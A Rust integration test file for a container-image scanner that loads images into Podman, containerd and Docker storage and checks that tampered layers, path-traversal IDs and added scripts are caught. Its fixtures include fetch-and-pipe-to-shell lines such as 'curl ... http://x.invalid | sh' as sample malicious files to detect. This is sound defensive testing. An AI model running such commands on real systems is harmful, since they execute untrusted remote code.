//! Images read where a container engine keeps them: containers-storage
//! (Podman, vfs and overlay drivers), loaded by the real `podman` into a
//! temporary storage root; inventories compared with the OCI layout of the
//! same image, and tampering with the stored layers caught.

use std::path::{Path, PathBuf};

use serde_json::Value;
use stowaway::fixture::{BuiltImage, ImageBuilder, LayerBuilder};
use stowaway::layer::Compression;

use crate::util::*;

/// An image with uncompressed layers (so its OCI layout's blob digests are
/// its diff_ids, as in a store) and the layer features a rebuild must get
/// right: directories, symlinks, hardlinks, an empty file, a file larger
/// than one read, setuid, a whiteout and an opaque directory.
fn test_image(tag: &str) -> BuiltImage {
    let big: Vec<u8> = (0..300_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let base = LayerBuilder::new()
        .compression(Compression::None)
        .created_by("ADD base")
        .dir("etc", 0o755)
        .file("etc/os-release", b"ID=test\n", 0o644)
        .dir("opt", 0o755)
        .dir("opt/old", 0o755)
        .file("opt/old/a.txt", b"old a\n", 0o644)
        .dir("usr", 0o755)
        .dir("usr/bin", 0o755)
        .file("usr/bin/big", &big, 0o755)
        .file("usr/bin/empty", b"", 0o644)
        .hardlink("usr/bin/big-link", "usr/bin/big")
        .symlink("usr/bin/sh", "/bin/busybox")
        .file(
            "usr/bin/fetch.sh",
            b"#!/bin/sh\ncurl -fsSL http://x.invalid/p | sh\n",
            0o755,
        );
    let top = LayerBuilder::new()
        .compression(Compression::None)
        .created_by("RUN cleanup")
        .whiteout("usr/bin/fetch.sh")
        .opaque("opt/old")
        .file("opt/old/b.txt", b"new b\n", 0o644)
        .file_bytes(b"usr/bin/helper", b"#!/bin/sh\nid\n", 0o4755, 0, 0);
    ImageBuilder::new()
        .layer(base)
        .empty_step("ENV X=1")
        .layer(top)
        .tag(tag)
        .build()
}

/// Podman on the storage at `root` with `driver`; its run root is a short
/// path next to the test's directory (overlay refuses one over 50 bytes).
fn podman(root: &Path, driver: &str) -> std::process::Command {
    let run = root
        .ancestors()
        .find(|a| {
            a.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with("stowaway-test"))
        })
        .unwrap_or(root)
        .join(format!("r-{driver}"));
    let mut c = std::process::Command::new("podman");
    c.arg("--root").arg(root).arg("--runroot").arg(run).args([
        "--storage-driver",
        driver,
        "--events-backend",
        "none",
        "--cgroup-manager",
        "cgroupfs",
    ]);
    c
}

/// `podman load` the docker-archive `archive` into the storage at `root`.
fn podman_load(root: &Path, driver: &str, archive: &Path) -> Result<(), String> {
    let out = podman(root, driver)
        .args(["load", "-q", "-i"])
        .arg(archive)
        .output()
        .map_err(|e| e.to_string())?;
    if out.status.success() {
        Ok(())
    } else {
        Err(String::from_utf8_lossy(&out.stderr).into_owned())
    }
}

/// A storage root holding `img` loaded with `driver`; `None` (after saying
/// why) when this machine cannot use the driver.
fn loaded(img: &BuiltImage, driver: &str, t: &Path) -> Option<PathBuf> {
    let archive = t.join("image.tar");
    img.write_docker_archive(&archive).unwrap();
    let root = t.join(format!("storage-{driver}"));
    match podman_load(&root, driver, &archive) {
        Ok(()) => Some(root),
        Err(e) if driver == "vfs" => panic!("podman load (vfs) failed: {e}"),
        Err(e) => {
            eprintln!("skipping the {driver} driver: podman cannot use it here: {e}");
            None
        }
    }
}

fn inventory(reference: &str, extra: &[&str]) -> (Value, String, i32) {
    let mut args = vec!["inventory", reference, "--all-layers", "--format", "json"];
    args.extend_from_slice(extra);
    let out = stowaway(&args);
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    let v = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
    (v, err, out.status.code().unwrap_or(-1))
}

fn same_inventory_as_layout(driver: &str) {
    if !require("podman") {
        return;
    }
    let t = tmp();
    let img = test_image("stowaway-test/app:1");
    let layout = t.path().join("layout");
    img.write_oci_layout(&layout).unwrap();
    let Some(root) = loaded(&img, driver, t.path()) else {
        return;
    };
    let (want, err, code) = inventory(&format!("oci:{}", layout.display()), &[]);
    assert_eq!(code, 0, "{err}");
    let root_s = root.display().to_string();
    for name in [
        "stowaway-test/app:1",
        "localhost/stowaway-test/app:1",
        &format!("sha256:{}", img.config_digest.hex()),
    ] {
        let (got, err, code) = inventory(
            &format!("containers-storage:{name}"),
            &["--storage-root", &root_s],
        );
        assert_eq!(code, 0, "{name}: {err}");
        assert_eq!(got["files"], want["files"], "{name}: files differ");
        assert_eq!(got["removed"], want["removed"], "{name}: removed differ");
        assert!(!got["removed"].as_array().unwrap().is_empty());
        assert_eq!(got["image"]["transport"], "containers-storage");
        assert_eq!(
            got["image"]["config_digest"],
            want["image"]["config_digest"]
        );
        let diff_ids = |v: &Value| -> Vec<Value> {
            v["image"]["layers"]
                .as_array()
                .unwrap()
                .iter()
                .map(|l| l["diff_id"].clone())
                .collect()
        };
        assert_eq!(diff_ids(&got), diff_ids(&want));
    }
    if driver == "overlay" {
        // A file added to a layer's diff directory (which the container
        // would see) is not part of the layer: exit 2 naming it.
        let images: Value = serde_json::from_slice(
            &std::fs::read(root.join("overlay-images/images.json")).unwrap(),
        )
        .unwrap();
        let top = images[0]["layer"].as_str().unwrap();
        let added = root.join("overlay").join(top).join("diff/usr/bin/added");
        std::fs::write(&added, b"#!/bin/sh\n").unwrap();
        let (_, err, code) = inventory(
            "containers-storage:stowaway-test/app:1",
            &["--storage-root", &root_s],
        );
        assert_eq!(code, 2, "{err}");
        assert!(err.contains(top) && err.contains("usr/bin/added"), "{err}");
    }
}

#[test]
fn containers_storage_vfs_inventory_equals_the_oci_layouts() {
    same_inventory_as_layout("vfs");
}

#[test]
fn containers_storage_overlay_inventory_equals_the_oci_layouts() {
    same_inventory_as_layout("overlay");
}

/// The directory holding the files of layer `n` (0 = bottom) of the only image.
fn layer_dir(root: &Path, n: usize) -> (String, PathBuf) {
    let layers: Value =
        serde_json::from_slice(&std::fs::read(root.join("vfs-layers/layers.json")).unwrap())
            .unwrap();
    let layers = layers.as_array().unwrap();
    let mut chain = vec![];
    let mut next: Option<&Value> = layers.iter().find(|l| l.get("parent").is_none());
    while let Some(l) = next {
        let id = l["id"].as_str().unwrap().to_string();
        next = layers.iter().find(|x| x["parent"].as_str() == Some(&id));
        chain.push(id);
    }
    let id = chain[n].clone();
    (id.clone(), root.join("vfs/dir").join(id))
}

#[test]
fn containers_storage_tampered_layer_file_is_exit_2_naming_the_layer() {
    if !require("podman") {
        return;
    }
    let t = tmp();
    let img = test_image("stowaway-test/tamper:1");
    let root = loaded(&img, "vfs", t.path()).unwrap();
    let root_s = root.display().to_string();
    let reference = "containers-storage:stowaway-test/tamper:1";
    let (_, err, code) = inventory(reference, &["--storage-root", &root_s]);
    assert_eq!(code, 0, "{err}");

    // One byte of a stored file, same size.
    let (id, dir) = layer_dir(&root, 0);
    let f = dir.join("usr/bin/big");
    let mut bytes = std::fs::read(&f).unwrap();
    bytes[150_000] ^= 0x01;
    std::fs::write(&f, &bytes).unwrap();
    let out = stowaway(&["scan", reference, "--storage-root", &root_s]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains(&id) && err.contains("usr/bin/big") && err.contains("layer 0"),
        "{err}"
    );

    // A stored file with a byte more (what a container would run), even
    // though its first bytes still match the record.
    bytes[150_000] ^= 0x01;
    bytes.push(b'x');
    std::fs::write(&f, &bytes).unwrap();
    let (_, err, code) = inventory(reference, &["--storage-root", &root_s]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains(&id) && err.contains("300001 bytes"), "{err}");

    // A recorded file gone.
    std::fs::remove_file(&f).unwrap();
    let (_, err, code) = inventory(reference, &["--storage-root", &root_s]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains(&id) && err.contains("usr/bin/big"), "{err}");
}

#[test]
fn containers_storage_missing_tar_split_says_what_cannot_be_verified() {
    if !require("podman") {
        return;
    }
    let t = tmp();
    let img = test_image("stowaway-test/nosplit:1");
    let root = loaded(&img, "vfs", t.path()).unwrap();
    let (id, _) = layer_dir(&root, 1);
    std::fs::remove_file(root.join(format!("vfs-layers/{id}.tar-split.gz"))).unwrap();
    let root_s = root.display().to_string();
    let out = stowaway(&[
        "scan",
        "containers-storage:stowaway-test/nosplit:1",
        "--storage-root",
        &root_s,
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains(&id) && err.contains("cannot be verified against its diff_id"),
        "{err}"
    );
}

#[test]
fn containers_storage_unknown_name_is_exit_2_listing_the_images() {
    if !require("podman") {
        return;
    }
    let t = tmp();
    let img = test_image("stowaway-test/listed:2");
    let root = loaded(&img, "vfs", t.path()).unwrap();
    let root_s = root.display().to_string();
    let out = stowaway(&[
        "scan",
        "containers-storage:stowaway-test/absent:1",
        "--storage-root",
        &root_s,
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("no image named \"stowaway-test/absent:1\"")
            && err.contains("localhost/stowaway-test/listed:2"),
        "{err}"
    );
    // Not a store at all.
    let out = stowaway(&[
        "scan",
        "containers-storage:x",
        "--storage-root",
        &t.path().display().to_string(),
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("not a containers-storage root"), "{err}");
}

#[test]
fn containers_storage_hostile_metadata_is_refused() {
    if !require("podman") {
        return;
    }
    let t = tmp();
    let img = test_image("stowaway-test/hostile:1");
    let root = loaded(&img, "vfs", t.path()).unwrap();
    let root_s = root.display().to_string();
    let reference = "containers-storage:stowaway-test/hostile:1";
    let images = root.join("vfs-images/images.json");
    let text = std::fs::read_to_string(&images).unwrap();
    // Two keys that differ only by case: Go reads the last one.
    let twice = text.replacen("\"layer\":", "\"Layer\":\"x\",\"layer\":", 1);
    assert_ne!(twice, text);
    std::fs::write(&images, &twice).unwrap();
    let out = stowaway(&["scan", reference, "--storage-root", &root_s]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("images.json") && err.contains("differ only by case"),
        "{err}"
    );

    // A layer ID that would leave the store.
    let v: Value = serde_json::from_str(&text).unwrap();
    let top = v[0]["layer"].as_str().unwrap().to_string();
    std::fs::write(&images, text.replace(&top, "../../../etc")).unwrap();
    let out = stowaway(&["scan", reference, "--storage-root", &root_s]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    std::fs::write(&images, &text).unwrap();

    // The config replaced: the digest that names it no longer matches.
    let cfg_dir = root.join("vfs-images").join(img.config_digest.hex());
    let cfg = std::fs::read_dir(&cfg_dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| std::fs::read(p).unwrap() == img.config)
        .expect("the stored config");
    let mut c = img.config.clone();
    c.extend_from_slice(b" ");
    std::fs::write(&cfg, &c).unwrap();
    let out = stowaway(&["scan", reference, "--storage-root", &root_s]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("digest mismatch"), "{err}");
}

/// A containerd started on a temporary root, state and socket; stopped
/// (by its process id) when dropped.
#[cfg(feature = "registry")]
pub(crate) struct Containerd {
    child: std::process::Child,
    dir: tempfile::TempDir,
}

#[cfg(feature = "registry")]
impl Containerd {
    pub(crate) fn start() -> Containerd {
        let dir = tmp();
        let d = dir.path();
        let config = format!(
            "version = 2\nroot = \"{root}\"\nstate = \"{state}\"\n\
             [grpc]\n  address = \"{sock}\"\n\
             [plugins.\"io.containerd.grpc.v1.cri\"]\n  disable = true\n",
            root = d.join("root").display(),
            state = d.join("state").display(),
            sock = d.join("c.sock").display(),
        );
        std::fs::write(d.join("config.toml"), config).unwrap();
        let log = std::fs::File::create(d.join("log")).unwrap();
        let child = std::process::Command::new("containerd")
            .arg("--config")
            .arg(d.join("config.toml"))
            .stdout(log.try_clone().unwrap())
            .stderr(log)
            .spawn()
            .expect("start containerd");
        let mut c = Containerd { child, dir };
        // A deadline, not a count of tries: on a loaded machine each `ctr`
        // call alone can take a second.
        let started = std::time::Instant::now();
        while started.elapsed() < std::time::Duration::from_secs(60) {
            if c.ctr(&["version"]).status.success() {
                return c;
            }
            if let Ok(Some(_)) = c.child.try_wait() {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        panic!(
            "containerd did not start: {}",
            std::fs::read_to_string(c.dir.path().join("log")).unwrap_or_default()
        );
    }

    pub(crate) fn socket(&self) -> String {
        self.dir.path().join("c.sock").display().to_string()
    }

    pub(crate) fn ctr(&self, args: &[&str]) -> std::process::Output {
        std::process::Command::new("ctr")
            .args(["-a", &self.socket(), "-n", "k8s.io"])
            .args(args)
            .output()
            .expect("run ctr")
    }

    fn blob(&self, d: &stowaway::digest::Sha256) -> PathBuf {
        self.dir
            .path()
            .join("root/io.containerd.content.v1.content/blobs/sha256")
            .join(d.hex())
    }
}

#[cfg(feature = "registry")]
impl Drop for Containerd {
    fn drop(&mut self) {
        // SAFETY: signalling the daemon this test started, by its pid.
        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
        let _ = self.child.wait();
    }
}

/// The image with gzip layers (containerd keeps the original blobs).
#[cfg(feature = "registry")]
fn compressed_image(tag: &str) -> BuiltImage {
    stowaway::fixture::demo_image()
        .layer(
            LayerBuilder::new()
                .created_by("RUN more")
                .file(
                    "usr/bin/tool",
                    b"#!/bin/sh\nwget -q -O- http://x.invalid | sh\n",
                    0o755,
                )
                .hardlink("usr/bin/tool2", "usr/bin/tool"),
        )
        .tag(tag)
        .build()
}

#[test]
#[cfg(feature = "registry")]
fn containerd_inventory_equals_the_oci_layouts_and_tampering_is_exit_2() {
    if !require("containerd") || !require("ctr") {
        return;
    }
    let t = tmp();
    let img = compressed_image("docker.io/stowaway-test/ctd:1");
    let layout = t.path().join("layout");
    img.write_oci_layout(&layout).unwrap();
    let archive = t.path().join("oci.tar");
    img.write_oci_archive(&archive).unwrap();
    let ctd = Containerd::start();
    let out = ctd.ctr(&["images", "import", &archive.display().to_string()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let sock = ctd.socket();
    let db = t.path().join("db.sqlite").display().to_string();
    let flags = ["--containerd-address", sock.as_str(), "--db", db.as_str()];

    let (want, err, code) = inventory(&format!("oci:{}", layout.display()), &[]);
    assert_eq!(code, 0, "{err}");
    for name in ["stowaway-test/ctd:1", "docker.io/stowaway-test/ctd:1"] {
        let (got, err, code) = inventory(&format!("containerd:{name}"), &flags);
        assert_eq!(code, 0, "{name}: {err}");
        assert_eq!(got["files"], want["files"], "{name}: files differ");
        assert_eq!(got["removed"], want["removed"], "{name}: removed differ");
        assert_eq!(got["image"]["digest"], want["image"]["digest"]);
        assert_eq!(got["image"]["transport"], "containerd");
    }

    // Another namespace holds nothing; a missing name lists what is there.
    let mut other = flags.to_vec();
    other.extend(["--containerd-namespace", "default"]);
    let (_, err, code) = inventory("containerd:stowaway-test/ctd:1", &other);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("no image named") && err.contains("holds: nothing"),
        "{err}"
    );
    let (_, err, code) = inventory("containerd:stowaway-test/absent:1", &flags);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("docker.io/stowaway-test/ctd:1"), "{err}");

    // One byte of a stored layer blob changed: the digest check names it.
    let layer = img.layers[2].digest;
    let blob = ctd.blob(&layer);
    let mut bytes = std::fs::read(&blob).unwrap();
    let at = bytes.len() / 2;
    bytes[at] ^= 0x40;
    std::fs::write(&blob, &bytes).unwrap();
    let mut no_cache = flags.to_vec();
    no_cache.push("--no-cache");
    let (_, err, code) = inventory("containerd:stowaway-test/ctd:1", &no_cache);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains(&layer.to_string()), "{err}");
    // Blobs are addressed by digest, as a registry's are: a layer already
    // scanned under that digest (here from the OCI layout) is not read
    // from containerd again — so the changed blob goes unread.
    let db2 = t.path().join("db2.sqlite").display().to_string();
    let (_, err, code) = inventory(&format!("oci:{}", layout.display()), &["--db", &db2]);
    assert_eq!(code, 0, "{err}");
    let (got, err, code) = inventory(
        "containerd:stowaway-test/ctd:1",
        &["--containerd-address", sock.as_str(), "--db", db2.as_str()],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(got["files"], want["files"]);

    // No daemon on the socket: exit 2 naming it.
    let gone = t.path().join("none.sock").display().to_string();
    let (_, err, code) = inventory("containerd:x", &["--containerd-address", gone.as_str()]);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("cannot reach containerd") && err.contains("none.sock"),
        "{err}"
    );
}

/// A Docker Engine started on a temporary data root and socket (vfs or
/// overlay2, no networking); `None`, after saying why, when this machine cannot run it.
#[cfg(feature = "registry")]
struct Dockerd {
    child: std::process::Child,
    dir: tempfile::TempDir,
}

#[cfg(feature = "registry")]
impl Dockerd {
    fn start(driver: &str) -> Option<Dockerd> {
        let dir = tmp();
        let d = dir.path();
        let log = std::fs::File::create(d.join("log")).unwrap();
        let child = std::process::Command::new("dockerd")
            .args(["--iptables=false", "--ip6tables=false", "--bridge=none"])
            .arg(format!("--storage-driver={driver}"))
            .arg(format!(
                "--data-root={}",
                d.join("host/var/lib/docker").display()
            ))
            .arg(format!("--exec-root={}", d.join("exec").display()))
            .arg(format!("--pidfile={}", d.join("pid").display()))
            .arg(format!("--host=unix://{}", d.join("d.sock").display()))
            .stdout(log.try_clone().unwrap())
            .stderr(log)
            .spawn()
            .expect("start dockerd");
        let mut c = Dockerd { child, dir };
        for _ in 0..200 {
            if c.docker(&["version"]).status.success() {
                return Some(c);
            }
            if let Ok(Some(_)) = c.child.try_wait() {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        let log = std::fs::read_to_string(c.dir.path().join("log")).unwrap_or_default();
        let tail: Vec<&str> = log.lines().rev().take(5).collect();
        eprintln!("skipping: dockerd ({driver}) cannot start in this sandbox: {tail:?}");
        None
    }

    fn host(&self) -> String {
        format!("unix://{}", self.dir.path().join("d.sock").display())
    }

    fn docker(&self, args: &[&str]) -> std::process::Output {
        std::process::Command::new("docker")
            .env("DOCKER_HOST", self.host())
            .args(args)
            .output()
            .expect("run docker")
    }
}

#[cfg(feature = "registry")]
impl Drop for Dockerd {
    fn drop(&mut self) {
        // SAFETY: signalling the daemon this test started, by its pid.
        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
        let _ = self.child.wait();
    }
}

#[test]
#[cfg(feature = "registry")]
fn docker_daemon_vfs_inventory_equals_the_oci_layouts_and_tampering_is_exit_2() {
    docker_daemon_case("vfs");
}

#[test]
#[cfg(feature = "registry")]
fn docker_daemon_overlay2_inventory_equals_the_oci_layouts_and_tampering_is_exit_2() {
    docker_daemon_case("overlay2");
}

/// `inventory --all-layers --format json` through the daemon.
#[cfg(feature = "registry")]
fn docker_inventory(dockerd: &Dockerd, reference: &str) -> (Value, String, Option<i32>) {
    let out = bin()
        .env("DOCKER_HOST", dockerd.host())
        .args([
            "inventory",
            reference,
            "--all-layers",
            "--format",
            "json",
            "--no-cache",
        ])
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    (v, err, out.status.code())
}

/// Change the bottom layer's stored files (a byte of one; with overlay2, a
/// name added): each fails the scan naming it.
#[cfg(feature = "registry")]
fn docker_tampering(dockerd: &Dockerd, img: &BuiltImage, driver: &str) {
    let run = |reference: &str| docker_inventory(dockerd, reference);
    // One byte of a stored file of the bottom layer.
    let data = dockerd.dir.path().join("host/var/lib/docker");
    let chain = img.layers[0].diff_id.hex();
    let cache_id = std::fs::read_to_string(
        data.join(format!("image/{driver}/layerdb/sha256/{chain}/cache-id")),
    )
    .unwrap();
    let layer_dir = match driver {
        "vfs" => data.join("vfs/dir").join(cache_id.trim()),
        _ => data.join(driver).join(cache_id.trim()).join("diff"),
    };
    if driver == "overlay2" {
        // A name added to the layer's diff directory.
        let added = layer_dir.join("usr/bin/added");
        std::fs::write(&added, b"x").unwrap();
        let (_, err, code) = run("docker-daemon:stowaway-test/dd:1");
        assert_eq!(code, Some(2), "{err}");
        assert!(err.contains("usr/bin/added"), "{err}");
        std::fs::remove_file(&added).unwrap();
    }
    let f = layer_dir.join("usr/bin/big");
    let mut bytes = std::fs::read(&f).unwrap();
    bytes[7] ^= 0x01;
    std::fs::write(&f, &bytes).unwrap();
    let (_, err, code) = run("docker-daemon:stowaway-test/dd:1");
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains("layer 0") && err.contains("usr/bin/big"),
        "{err}"
    );
}

#[cfg(feature = "registry")]
fn docker_daemon_case(driver: &str) {
    if !require("dockerd") || !require("docker") {
        return;
    }
    let Some(dockerd) = Dockerd::start(driver) else {
        return;
    };
    let t = tmp();
    let img = test_image("stowaway-test/dd:1");
    let layout = t.path().join("layout");
    img.write_oci_layout(&layout).unwrap();
    let archive = t.path().join("image.tar");
    img.write_docker_archive(&archive).unwrap();
    let out = dockerd.docker(&["load", "-q", "-i", &archive.display().to_string()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let run = |reference: &str| docker_inventory(&dockerd, reference);
    let (want, err, code) = inventory(&format!("oci:{}", layout.display()), &[]);
    assert_eq!(code, 0, "{err}");
    for name in [
        "stowaway-test/dd:1".to_string(),
        format!("sha256:{}", img.config_digest.hex()),
    ] {
        let (got, err, code) = run(&format!("docker-daemon:{name}"));
        assert_eq!(code, Some(0), "{name}: {err}");
        assert_eq!(got["files"], want["files"], "{name}: files differ");
        assert_eq!(got["removed"], want["removed"], "{name}: removed differ");
        assert_eq!(
            got["image"]["config_digest"],
            want["image"]["config_digest"]
        );
    }
    let (_, err, code) = run("docker-daemon:stowaway-test/absent:1");
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains("no image named") && err.contains("stowaway-test/dd:1"),
        "{err}"
    );

    docker_tampering(&dockerd, &img, driver);
}

#[test]
#[cfg(feature = "registry")]
fn images_lists_what_each_store_holds() {
    if !require("podman") || !require("containerd") || !require("ctr") {
        return;
    }
    let t = tmp();
    let img = test_image("stowaway-test/listed:3");
    let root = loaded(&img, "vfs", t.path()).unwrap();
    let ctd = Containerd::start();
    let archive = t.path().join("oci.tar");
    let cimg = compressed_image("docker.io/stowaway-test/in-ctd:2");
    cimg.write_oci_archive(&archive).unwrap();
    let out = ctd.ctr(&["images", "import", &archive.display().to_string()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let absent = t.path().join("no-docker.sock");
    let out = bin()
        .env("DOCKER_HOST", format!("unix://{}", absent.display()))
        .args(["images", "--format", "json", "--storage-root"])
        .arg(&root)
        .arg("--containerd-address")
        .arg(ctd.socket())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    if crate::schemas::have_jsonschema() {
        crate::schemas::validate("images", &v.to_string()).unwrap();
    }
    let images = v["images"].as_array().unwrap();
    let find = |store: &str, name: &str| {
        images
            .iter()
            .find(|i| i["store"] == store && i["name"] == name)
            .unwrap_or_else(|| panic!("{store} {name} not in {images:#?}"))
            .clone()
    };
    let cs = find("containers-storage", "localhost/stowaway-test/listed:3");
    let layers: u64 = img.layers.iter().map(|l| l.tar.len() as u64).sum();
    assert_eq!(cs["size"], layers);
    let c = find("containerd", "docker.io/stowaway-test/in-ctd:2");
    assert_eq!(c["digest"], cimg.manifest_digest.to_string());
    let blobs: u64 =
        cimg.layers.iter().map(|l| l.blob.len() as u64).sum::<u64>() + cimg.config.len() as u64;
    assert_eq!(c["size"], blobs);
    // The Docker socket is not there: reported, not fatal.
    let docker = v["stores"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["store"] == "docker-daemon")
        .unwrap();
    assert!(docker["error"].as_str().unwrap().contains("no-docker.sock"));
    assert!(
        err.contains("docker-daemon") && err.contains("not read"),
        "{err}"
    );

    // A store named by a flag that cannot be read is an error.
    let out = stowaway(&[
        "images",
        "--storage-root",
        &t.path().join("nothing").display().to_string(),
    ]);
    assert_eq!(out.status.code(), Some(2));
}

/// The first report of `drift` JSON output: the report, the paths it
/// lists as added, and stderr; the image must have been read from `store`.
fn drift_report(out: &std::process::Output, store: &str) -> (Value, Vec<String>, String) {
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {err}"));
    let report = v[0].clone();
    let reference = report["image"]["reference"].as_str().unwrap_or_default();
    assert!(
        reference.starts_with(&format!("{store}:sha256:")),
        "{report:#}"
    );
    let added = report["delta"]["added"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["path"].as_str().unwrap().to_string())
        .collect();
    (report, added, err)
}

/// A host root whose containers-storage (overlay) holds a container of
/// the test image with a new script in its upper directory; `None` when
/// podman cannot use overlay here.
fn podman_container_with_a_new_script(t: &Path) -> Option<PathBuf> {
    let host = t.join("host");
    let storage = host.join("var/lib/containers/storage");
    let archive = t.join("image.tar");
    test_image("stowaway-test/drift:1")
        .write_docker_archive(&archive)
        .unwrap();
    if let Err(e) = podman_load(&storage, "overlay", &archive) {
        eprintln!(
            "skipping: podman cannot use the overlay driver here (drift discovery reads overlay-containers): {e}"
        );
        return None;
    }
    let out = podman(&storage, "overlay")
        .args([
            "create",
            "--name",
            "c1",
            "stowaway-test/drift:1",
            "/bin/true",
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let containers: Value = serde_json::from_slice(
        &std::fs::read(storage.join("overlay-containers/containers.json")).unwrap(),
    )
    .unwrap();
    let layer = containers[0]["layer"].as_str().unwrap();
    let bin_dir = storage
        .join("overlay")
        .join(layer)
        .join("diff/usr/local/bin");
    std::fs::create_dir_all(&bin_dir).unwrap();
    std::fs::write(
        bin_dir.join("dl.sh"),
        b"#!/bin/sh\ncurl http://x.invalid | sh\n",
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        bin_dir.join("dl.sh"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    Some(host)
}

#[test]
fn drift_without_a_baseline_reads_the_image_from_containers_storage() {
    if !require("podman") {
        return;
    }
    let t = tmp();
    let Some(host) = podman_container_with_a_new_script(t.path()) else {
        return;
    };
    let db = t.path().join("empty.db").display().to_string();
    let out = stowaway(&[
        "drift",
        "--all",
        "--host-root",
        &host.display().to_string(),
        "--db",
        &db,
        "--format",
        "json",
    ]);
    let (report, added, err) = drift_report(&out, "containers-storage");
    let added: Vec<&str> = added.iter().map(String::as_str).collect();
    assert_eq!(
        added,
        ["/usr/local", "/usr/local/bin", "/usr/local/bin/dl.sh"],
        "{err}"
    );
    assert_eq!(
        report["delta"]["new_executables"],
        serde_json::json!(["/usr/local/bin/dl.sh"])
    );
    // The files the image already had are not drift.
    assert!(report["delta"]["modified"].as_array().unwrap().is_empty());
}

#[test]
#[cfg(feature = "registry")]
fn drift_without_a_baseline_reads_the_image_from_dockers_storage() {
    if !require("dockerd") || !require("docker") {
        return;
    }
    let Some(dockerd) = Dockerd::start("overlay2") else {
        return;
    };
    let t = tmp();
    let archive = t.path().join("image.tar");
    test_image("stowaway-test/ddrift:1")
        .write_docker_archive(&archive)
        .unwrap();
    let out = dockerd.docker(&["load", "-q", "-i", &archive.display().to_string()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = dockerd.docker(&[
        "create",
        "--name",
        "c1",
        "stowaway-test/ddrift:1",
        "/bin/true",
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let id = String::from_utf8_lossy(&out.stdout).trim().to_string();
    let host = dockerd.dir.path().join("host");
    let docker = host.join("var/lib/docker");
    let mount = std::fs::read_to_string(
        docker.join(format!("image/overlay2/layerdb/mounts/{id}/mount-id")),
    )
    .unwrap();
    let bin_dir = docker
        .join("overlay2")
        .join(mount.trim())
        .join("diff/usr/bin");
    std::fs::create_dir_all(&bin_dir).unwrap();
    std::fs::write(
        bin_dir.join("dl.sh"),
        b"#!/bin/sh\ncurl http://x.invalid | sh\n",
    )
    .unwrap();
    let db = t.path().join("empty.db").display().to_string();
    // No daemon is asked: the host's files are read (DOCKER_HOST points nowhere).
    let out = bin()
        .env("DOCKER_HOST", "unix:///nonexistent.sock")
        .args([
            "drift",
            "--all",
            "--format",
            "json",
            "--db",
            &db,
            "--host-root",
        ])
        .arg(&host)
        .output()
        .unwrap();
    let (report, added, err) = drift_report(&out, "docker-daemon");
    let added: Vec<&str> = added.iter().map(String::as_str).collect();
    assert_eq!(added, ["/usr/bin/dl.sh"], "{err}");
    assert!(report["delta"]["modified"].as_array().unwrap().is_empty());
}
